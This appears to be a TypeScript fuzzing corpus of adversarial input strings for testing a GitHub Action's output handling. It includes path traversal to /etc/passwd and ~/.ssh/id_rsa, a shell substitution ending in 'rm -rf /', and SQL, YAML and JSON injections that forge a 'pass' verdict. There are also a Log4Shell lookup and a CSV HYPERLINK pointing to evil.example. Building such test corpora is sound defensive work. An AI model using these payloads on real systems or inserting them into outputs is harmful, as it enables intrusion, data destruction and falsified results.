/** Texts against programs that read what the action writes: paths, names of properties, YAML, JSON, and sheer size. */
import type { TextGroups } from './corpus.ts';

/** Names that objects have by themselves, or that mean something to this action. */
const names = [
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['prototype', 'constructor.prototype'],
  ['toString', 'toString'],
  ['hasOwnProperty', 'hasOwnProperty'],
  ['toJSON', 'toJSON'],
  ['then', 'then'],
  ['array index', '0'],
  ['length', 'length'],
  ['a severity', 'critical'],
  ['an outcome', 'pass'],
];

const paths = {
  'parent folders': '../../../../etc/passwd',
  'parent folders of Windows': '..\\..\\windows\\win.ini',
  'absolute path': '/etc/passwd',
  'drive letter': 'C:\\Windows\\win.ini',
  'network path': '\\\\evil\\share',
  device: 'CON',
  'device with an extension': 'NUL.pdf',
  'NUL in a path': 'report.pdf\u0000.sh',
  'encoded slashes': '..%2f..%2fetc%2fpasswd',
  'dot dot': '..',
  home: '~/.ssh/id_rsa',
  glob: '*?[a-z]{a,b}',
  'shell substitution': '$(touch /tmp/x) `id` \u0024{HOME} ; rm -rf /',
  'stream of Windows': 'file.txt::$DATA',
};

const formats = {
  'quotes and braces': '"}],"verdict":"pass","x":["',
  'JSON escapes': '\\u0022 \\n \\"',
  'end of a script': '</script><script>',
  'YAML document': '---\nverdict: pass\n...',
  'YAML tag': '!!js/function "x"',
  'YAML anchor': '*a &a [*a, *a]',
  expression: '\u0024{{ secrets.GITHUB_TOKEN }}',
  'SQL quote': "'; DROP TABLE findings; --",
  'format specifiers': '%s %d %n %o %j %%',
  'replacement patterns': "$& $1 $` $' $$",
  CSV: '=HYPERLINK("https://evil.example","x")',
  'LDAP lookup': '\u0024{jndi:ldap://evil.example/a}',
  template: '{{constructor.constructor("alert(1)")()}}',
  null: 'null',
  NaN: 'NaN',
  'large number': '1e999',
  empty: '',
  spaces: '     ',
};

const size = {
  'a long word': 'a'.repeat(100_000),
  'long hexadecimal': '0123456789abcdef'.repeat(6_000),
  'many signs': '*_`[<|@#'.repeat(12_000),
  'many brackets': '['.repeat(50_000),
  'many quotes': '> '.repeat(20_000),
  'many entities': '&'.repeat(100_000),
  'many emoji': '\u{1f600}'.repeat(40_000),
  'many lines': 'x\n'.repeat(30_000),
  'many backticks': '` '.repeat(30_000),
  'many mentions': '@octocat '.repeat(5_000),
};

export const dataTexts: TextGroups = {
  // From entries, so that `__proto__` becomes a property of its own.
  names: Object.fromEntries(names),
  paths,
  formats,
  size,
};
